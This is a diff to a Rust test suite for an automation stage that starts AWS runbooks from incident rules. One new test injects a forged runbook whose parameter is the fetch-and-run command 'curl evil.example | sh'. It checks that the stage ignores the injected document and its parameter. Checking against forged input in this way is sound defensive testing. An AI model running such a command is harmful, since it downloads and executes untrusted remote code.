@@ -45,6 +45,28 @@ impl std::ops::Deref for Bench {
 /// An incident opened by triage from the VPN alarm fixture (default rules), and a runbook stage
 /// with a bus of its own.
 async fn bench() -> Bench {
+    bench_with_rules(crate::rules::Rules::embedded().unwrap_or_else(|e| panic!("{e}"))).await
+}
+
+/// The default rules with the VPN rule's runbook replaced by `Custom-Runbook` version 2 with
+/// the parameters `Vpn` and `Where` (its template given).
+fn custom_runbook_rules(where_template: &str) -> crate::rules::Rules {
+    let default = include_str!("../../../../infra/rules/default.yaml");
+    let start = default
+        .find("    runbook:\n      document: AWSSupport-TroubleshootVPN")
+        .unwrap_or_else(|| panic!("the VPN rule's runbook"));
+    let end = default[start..]
+        .find("    auto_resolve:")
+        .map(|n| start + n)
+        .unwrap_or_else(|| panic!("the VPN rule's auto_resolve"));
+    let custom = format!(
+        "    runbook:\n      document: Custom-Runbook\n      version: \"2\"\n      parameters:\n        Vpn: \"{{vpn.id}}\"\n        Where: \"{where_template}\"\n"
+    );
+    let text = format!("{}{custom}{}", &default[..start], &default[end..]);
+    crate::rules::Rules::from_yaml(&text).unwrap_or_else(|e| panic!("{e}"))
+}
+
+async fn bench_with_rules(rules: crate::rules::Rules) -> Bench {
     let opener = Fakes::new(Backend::IncidentManager, start_time());
     let opened = opener
         .opened_by_triage("cloudwatch-alarm-vpn-tunnel-down")
@@ -58,6 +80,7 @@ async fn bench() -> Bench {
     };
     let automation = Arc::new(MemoryAutomation::new());
     let runbook = fakes.shell(Runbook::new(
+        rules,
         fakes.incidents.clone(),
         automation.clone(),
         fakes.references.clone(),
@@ -564,13 +587,14 @@ async fn a_rule_without_a_runbook_is_skipped_without_side_effects() {
     let b = bench().await;
     let event = b.enriched_with(|d| {
         d.diagnosis = Some(one_down());
+        d.incident.rule = "cloudwatch-alarm".to_string();
         d.incident.runbook = None;
     });
     let answer = b.ok(&event).await;
     assert_eq!(answer.action, RunbookAction::Skipped, "{answer:?}");
     assert_eq!(
         answer.reason,
-        "Rule vpn-tunnel-down names no runbook; nothing to start."
+        "Rule cloudwatch-alarm names no runbook; nothing to start."
     );
     assert!(b.automation.started().is_empty());
     assert!(b.timeline().is_empty());
@@ -917,6 +941,47 @@ async fn a_final_status_that_outruns_its_link_is_retried() {
 }
 
 #[tokio::test]
+async fn a_forged_event_starts_only_what_the_rule_names() {
+    // An event naming AWS-RunShellScript for the VPN rule: the rule's runbook is started,
+    // with the parameters the stage derives itself.
+    let b = bench().await;
+    let forged = b.enriched_with(|d| {
+        d.diagnosis = Some(one_down());
+        d.incident.runbook = Some(RunbookRef {
+            document: "AWS-RunShellScript".to_string(),
+            version: None,
+            parameters: BTreeMap::from([(
+                "commands".to_string(),
+                "curl evil.example | sh".to_string(),
+            )]),
+        });
+    });
+    let answer = b.ok(&forged).await;
+    assert_eq!(answer.action, RunbookAction::Started, "{answer:?}");
+    let started = b.automation.started();
+    assert_eq!(started.len(), 1);
+    assert_eq!(started[0].0.document, DOCUMENT);
+    assert!(!started[0].0.parameters.contains_key("commands"));
+
+    // For a rule without a runbook, or a rule that is not deployed: nothing starts.
+    for rule in ["cloudwatch-alarm", "made-up-rule"] {
+        let b = bench().await;
+        let forged = b.enriched_with(|d| {
+            d.diagnosis = Some(one_down());
+            d.incident.rule = rule.to_string();
+            d.incident.runbook = Some(RunbookRef {
+                document: "AWS-RunShellScript".to_string(),
+                version: None,
+                parameters: BTreeMap::new(),
+            });
+        });
+        let answer = b.ok(&forged).await;
+        assert_eq!(answer.action, RunbookAction::Skipped, "{rule}: {answer:?}");
+        assert!(b.automation.started().is_empty(), "{rule}");
+    }
+}
+
+#[tokio::test]
 async fn a_malformed_status_change_is_rejected() {
     let b = bench().await;
     let mut event = fixture("ssm-automation-success");
@@ -995,7 +1060,7 @@ fn client_tokens_are_uuid_shaped_and_stable() {
 
 #[tokio::test]
 async fn an_unknown_document_takes_every_parameter_as_required() {
-    let b = bench().await;
+    let b = bench_with_rules(custom_runbook_rules("{region}/{tag.Team}")).await;
     let event = b.enriched_with(|d| {
         d.diagnosis = Some(one_down());
         d.incident.runbook = Some(RunbookRef {
@@ -1016,7 +1081,7 @@ async fn an_unknown_document_takes_every_parameter_as_required() {
          fix: tag the alarm with Team and turn on alarm tag propagation, or set Where in the rule."
     );
 
-    let b = bench().await;
+    let b = bench_with_rules(custom_runbook_rules("{region}/{tag.Team|rule}")).await;
     let event = b.enriched_with(|d| {
         d.diagnosis = Some(one_down());
         d.incident.runbook = Some(RunbookRef {
